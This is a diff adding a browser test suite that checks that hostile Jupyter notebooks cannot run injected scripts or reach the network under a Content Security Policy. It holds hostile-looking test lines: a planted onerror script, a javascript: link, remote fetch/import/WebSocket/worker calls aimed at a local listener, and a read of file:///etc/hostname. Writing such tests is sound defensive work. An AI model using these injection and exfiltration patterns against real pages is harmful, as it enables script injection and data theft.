@@ -1,0 +1,153 @@
+/** Notebooks that mean harm, in a real browser: nothing of them runs in the page, and nothing leaves it. */
+import { createServer, type Server } from 'node:http';
+import type { AddressInfo } from 'node:net';
+import type { Page } from 'playwright-core';
+import { afterAll, beforeAll, expect, it } from 'vitest';
+import type { Notebook, NotebookCell } from '../../src/jupyter/notebook.js';
+import { attacks } from './attacks.js';
+import { describeInChromium, notebookOf, type Opened, outputOf, runAll } from './chromium.js';
+
+let server: Server;
+let address: string;
+let hits: string[];
+
+beforeAll(async () => {
+  hits = [];
+  server = createServer((request, response) => {
+    hits.push(request.url ?? '');
+    response.end('');
+  });
+  server.on('upgrade', (request, socket) => {
+    hits.push(request.url ?? '');
+    socket.destroy();
+  });
+  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+  address = `127.0.0.1:${(server.address() as AddressInfo).port}`;
+});
+afterAll(() => new Promise((resolve) => server.close(resolve)));
+
+/** The attacks, with somebody who hears them. */
+const heard = () =>
+  attacks.map((attack) =>
+    attack.replaceAll('https://example.org', `http://${address}`).replace('src=x', `src=http://${address}/x`),
+  );
+
+function output(data: Record<string, unknown>): NotebookCell {
+  const outputs = [{ output_type: 'display_data' as const, data, metadata: {} }];
+  return { cell_type: 'code', metadata: {}, source: '', execution_count: 1, outputs };
+}
+
+const withoutPolicy = (html: string) => html.replace(/<meta http-equiv="Content-Security-Policy"[^>]*>/, '');
+
+async function pwned(page: Page): Promise<unknown> {
+  // A click on every link, in case one of them is a script.
+  await page.evaluate(
+    'document.querySelectorAll("main a").forEach((a) => a.protocol === "javascript:" && a.click())',
+  );
+  await page.waitForTimeout(300);
+  return page.evaluate('window.pwned');
+}
+
+describeInChromium('a hostile notebook', (open) => {
+  it('runs nothing and asks for nothing when it is opened, whatever is in it', async () => {
+    const types = ['text/html', 'text/markdown', 'text/plain', 'image/svg+xml'];
+    const cells = heard().flatMap((attack): NotebookCell[] => [
+      { cell_type: 'markdown', metadata: {}, source: attack },
+      ...types.map((type) => output({ [type]: attack })),
+    ]);
+    const notebook: Notebook = { cells, metadata: {}, nbformat: 4, nbformat_minor: 4 };
+
+    const { page, asked } = await open(notebook);
+
+    expect(await pwned(page)).toBeUndefined();
+    expect(asked).toEqual([]);
+    expect(hits).toEqual([]);
+  });
+
+  it('runs nothing in the page when its cells run and show what they like', async () => {
+    const notebook = notebookOf(
+      "import { show } from 'aliaslab';\nimport { table } from 'arquero';",
+      `const attacks: string[] = ${JSON.stringify(heard())};`,
+      "for (const attack of attacks) show({ [Symbol.for('Jupyter.display')]: () => ({ 'text/html': attack }) });",
+      "for (const attack of attacks) show({ [Symbol.for('Jupyter.display')]: () => ({ 'image/svg+xml': attack, 'text/markdown': attack }) });",
+      'for (const attack of attacks) show(table({ [attack]: [attack] }));',
+      'for (const attack of attacks) { console.log(attack); console.error(attack); }',
+      "const [a] = attacks; const link = '<a href=\"javascript:window.pwned = 1\">x</a>';\nfor (const text of [a, link, attacks[2], attacks[3]]) show({ data: [{ type: 'scatter', x: [text], y: [1], name: text, text: [text], mode: 'markers+text', hovertext: [text] }], layout: { title: { text }, images: [{ source: 'http://HERE/plot.png', xref: 'paper', yref: 'paper', x: 0, y: 1, sizex: 1, sizey: 1 }], annotations: [{ text, x: 0, y: 1 }], meta: { alt: text, caption: text } } });".replace(
+        'HERE',
+        address,
+      ),
+      'throw Object.assign(new Error(attacks.join()), { name: attacks[0] });',
+    );
+    const { page, asked } = await open(notebook);
+
+    expect(await runAll(page)).toBe('Cell 8 failed; the cells after it did not run.');
+    await page.waitForFunction("document.querySelectorAll('.js-plotly-plot .modebar').length === 4");
+
+    expect(await pwned(page)).toBeUndefined();
+    expect(asked).toEqual([]);
+    expect(hits).toEqual([]);
+    expect(
+      await page.locator('main script, main iframe, main form, main [onerror], main [onload]').count(),
+    ).toBe(0);
+    expect(await page.locator('[data-cell="3"] .outputs').innerText()).toContain('styled');
+  });
+
+  it('runs nothing even without the policy: what is shown was cleaned', async () => {
+    const notebook = notebookOf(
+      "import { show } from 'aliaslab';\nimport { table } from 'arquero';",
+      `for (const attack of ${JSON.stringify(attacks)}) {
+  for (const type of ['text/html', 'image/svg+xml', 'text/markdown']) show({ [Symbol.for('Jupyter.display')]: () => ({ [type]: attack }) });
+  show(table({ [attack]: [attack] }));
+}`,
+    );
+
+    const { page } = await open(notebook, { change: withoutPolicy });
+
+    expect(await runAll(page)).toBe('All cells ran.');
+    expect(await page.locator('.outputs > *').count()).toBeGreaterThan(attacks.length);
+    expect(await pwned(page)).toBeUndefined();
+  });
+
+  const calling = `const tried: string[] = [];
+const attempt = async (name: string, ask: () => unknown) => { try { await ask(); tried.push(name + ' asked'); } catch { tried.push(name + ' blocked'); } };
+await attempt('fetch', () => fetch('http://HERE/fetch', { mode: 'no-cors' }));
+await attempt('import', () => (0, eval)("import('http://HERE/import.js')"));
+await attempt('importScripts', () => (globalThis as any).importScripts('http://HERE/scripts.js'));
+await attempt('socket', () => new Promise((resolve, reject) => { const socket = new WebSocket('ws://HERE/socket'); socket.onopen = resolve; socket.onerror = reject; }));
+await attempt('worker', () => new Promise((resolve, reject) => { const worker = new Worker(URL.createObjectURL(new Blob(["fetch('http://HERE/worker', { mode: 'no-cors' }).then(() => postMessage(1), () => postMessage(0))"]))); worker.onmessage = ({ data }) => (data ? resolve(1) : reject()); worker.onerror = reject; }));
+await attempt('file', () => fetch('file:///etc/hostname'));
+tried.join(', ')`;
+  const callingFrom = (opened: Promise<Opened>) =>
+    opened.then(async ({ page }) => {
+      await runAll(page);
+      return outputOf(page, 1);
+    });
+
+  it('reaches nobody from its cells', async () => {
+    hits.length = 0;
+
+    const said = await callingFrom(open(notebookOf(calling.replaceAll('HERE', address))));
+
+    expect(said).toBe(
+      'fetch blocked, import blocked, importScripts blocked, socket blocked, worker blocked, file blocked',
+    );
+    expect(hits).toEqual([]);
+  });
+
+  it('would reach somebody, and a planted script would run, if there were no policy (control)', async () => {
+    hits.length = 0;
+    const plant = (html: string) =>
+      html.replace('</main>', '<img src="data:," onerror="window.pwned = 1"></main>');
+
+    const said = await callingFrom(
+      open(notebookOf(calling.replaceAll('HERE', address)), { change: withoutPolicy }),
+    );
+    const free = await open(notebookOf('1'), { change: (html) => withoutPolicy(plant(html)) });
+    const kept = await open(notebookOf('1'), { change: plant });
+
+    expect(said).toContain('fetch asked');
+    expect(hits).toEqual(expect.arrayContaining(['/fetch', '/socket', '/worker']));
+    expect(await pwned(free.page)).toBe(1);
+    expect(await pwned(kept.page)).toBeUndefined();
+  });
+});
